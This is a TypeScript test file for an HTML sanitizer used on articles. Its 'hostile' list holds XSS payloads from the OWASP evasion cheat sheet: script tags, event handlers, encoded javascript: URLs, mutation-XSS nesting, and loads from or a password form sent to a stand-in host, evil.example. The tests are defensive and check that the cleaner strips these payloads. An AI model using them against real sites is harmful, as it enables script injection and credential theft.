import { describe, expect, it } from 'vitest'
import { articleTags, textOf } from './article-node.ts'
import { cleanHtml } from './read-html.server.ts'

const maxBytes = 256 * 1024
const maxDepth = 100

import { readHtml } from './read-html.server.ts'

function clean(html: string): string {
  const outcome = cleanHtml(html)
  if ('refused' in outcome) throw new Error(outcome.refused)
  return outcome.html
}

/** Families of the OWASP XSS Filter Evasion Cheat Sheet, and what articles must not bring along besides. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/research-pictures/a.svg" onload="alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pg==">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/research-pictures/../../admin">',
  '<img srcset="https://evil.example/x 2x" src="/research-pictures/a.svg">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="article:javascript:alert(1)">x</a>',
  '<a href="article:0198f3a2-1111-7aaa-8bbb-0123456789ab#javascript:alert(1)">x</a>',
  '<a href="article:0198f3a2-1111-7aaa-8bbb-0123456789ab/../../evil.example">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="/ok" onclick="alert(1)" target="_blank" style="color:red" id="main">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<style>@import "https://evil.example/x.css"; p { background: url(javascript:alert(1)) }</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><p>x</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p class="header dialog">x</p>',
  '<h2 id="main">x</h2>',
  '<aside class="site-header">x</aside><small class="toasts">x</small>',
  '<p/onclick=alert(1)>x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><p>x</p><![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<custom-element onfoo=1>x</custom-element>',
]

describe('hostile HTML', () => {
  it.each(hostile)('%s', (dirty) => {
    const html = clean(dirty)
    // What is left are tags of the list with attributes of the list, read strictly.
    for (const [tag, , name = '', attributes = ''] of html.matchAll(/<(\/?)([^\s>/]*)([^>]*)>/g)) {
      expect(articleTags, tag).toContain(name)
      expect(attributes).toMatch(
        /^( (href|src|alt|width|height|scope|colspan|rowspan|start)="[^"]*"| class="(callout|disclaimer)")*( \/)?$/,
      )
    }
    expect(html).not.toMatch(/javascript:|vbscript:|data:|evil\.example|srcset|"\/\\/i)
    expect(JSON.stringify(readHtml(html).nodes)).not.toMatch(/javascript:|"tag":"(script|iframe|svg)"/i)
    expect(clean(html), 'clean HTML stays as it is').toBe(html)
  })
})

it('keeps what an article may hold', () => {
  const html = [
    '<h2>Costs</h2><h3>a</h3><h4>b</h4><p>Text with <strong>weight</strong>, <em>stress</em> &amp; <a href="/contact">a link</a>.</p>',
    '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote><p>said</p></blockquote><hr />',
    '<table><caption>c</caption><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<figure><img src="/research-pictures/chart.svg" alt="A chart" width="640" height="360" /><figcaption>f</figcaption></figure>',
    '<aside class="callout"><p>note</p></aside><p><small class="disclaimer">small</small></p>',
    '<p><a href="https://www.example.com/a?b=1&amp;c=2">x</a> <a href="mailto:a@b.example">m</a> <a href="tel:+12165550142">t</a></p>',
    '<p><a href="article:0198f3a2-1111-7aaa-8bbb-0123456789ab">y</a> <a href="article:0198f3a2-1111-7aaa-8bbb-0123456789ab#section-costs">z</a></p>',
  ].join('')
  expect(clean(html)).toBe(html)
})

it('turns neighbours of the list into the list', () => {
  expect(clean('<h1>a</h1><b>b</b><i>c</i><div><p>d</p></div><h6>e</h6>')).toBe(
    '<h2>a</h2><strong>b</strong><em>c</em><p>d</p><h4>e</h4>',
  )
})

it('leaves nothing that a second cleaning would change, also where a tag between two others falls out', () => {
  for (const dirty of ['<p><span><p>', '<p>a<div><p>b</p></div></p>', '<li><font><li>x'])
    expect(clean(clean(dirty)), dirty).toBe(clean(dirty))
})

describe('the caps', () => {
  it('refuse too much before anything is parsed', () => {
    expect(cleanHtml('<div>'.repeat(80 * 1024))).toEqual({ refused: 'too-large' })
    expect(cleanHtml('ü'.repeat(maxBytes / 2 + 1))).toEqual({ refused: 'too-large' })
    expect(cleanHtml(`<p>${'<'.repeat(maxBytes - 100)}</p>`)).toEqual({ refused: 'too-large' })
  })

  // Each of them once took the parser up to six tenths of a second, and everybody with it.
  it.each([
    '<p>x</p>',
    '<td>',
    '<tr><td>x',
    '< ',
    '&lt;',
    '</br>',
    '<x></x>',
    '<option>',
    '<a href="/contact">x</a>',
  ])('refuse more pieces than an article has, however few bytes they are: %s', (piece) => {
    expect(cleanHtml(piece.repeat(10_001))).toEqual({ refused: 'too-large' })
    expect(cleanHtml(`<p>${'words of one paragraph '.repeat(20)}</p>`.repeat(500))).toHaveProperty('html')
  })

  it('refuse nesting beyond the limit and allow it up to there', () => {
    const nested = (depth: number) => `${'<div>'.repeat(depth)}x${'</div>'.repeat(depth)}`
    expect(cleanHtml(nested(maxDepth + 1))).toEqual({ refused: 'too-deep' })
    expect(cleanHtml(nested(maxDepth))).toEqual({ html: 'x' })
    expect(cleanHtml('<ul><li>'.repeat(30_000))).toEqual({ refused: 'too-deep' })
    expect(clean('<p>line<br>'.repeat(500))).toContain('line<br />')
  })

  it.each(['<p><li>', '<dd><p>', '<li><dd>', '<td><p>', '<option><tr>'])(
    'counts tags that end themselves as the parser nests them: %s',
    (pair) => {
      expect(cleanHtml(pair.repeat(maxDepth))).toEqual({ refused: 'too-deep' })
      expect(cleanHtml(pair.repeat(20_000))).toEqual({ refused: 'too-deep' })
      expect(cleanHtml(pair.repeat(maxDepth / 4))).toHaveProperty('html')
    },
  )
})

describe('the tree', () => {
  it('holds exactly the text, and names headings once', () => {
    const { nodes, contents } = readHtml(
      clean('<h2>What it costs</h2><p>A &lt;b&gt; &amp; "c"</p><h2>What it costs</h2><h2>¿?</h2>'),
    )
    expect(nodes.map(textOf)).toEqual(['What it costs', 'A <b> & "c"', 'What it costs', '¿?'])
    expect(contents).toEqual([
      { id: 'section-what-it-costs', text: 'What it costs' },
      { id: 'section-what-it-costs--2', text: 'What it costs' },
      { id: 'section-part', text: '¿?' },
    ])
  })

  it('lets nothing in that the cleaner would not have left', () => {
    const { nodes } = readHtml(
      '<script>x</script><p onclick="a">y</p><a href="javascript:1">z</a><img src="//evil.example/x" /><p>open',
    )
    expect(nodes).toEqual(['x', { tag: 'p', children: ['y'] }, 'z', { tag: 'p', children: ['open'] }])
  })
})
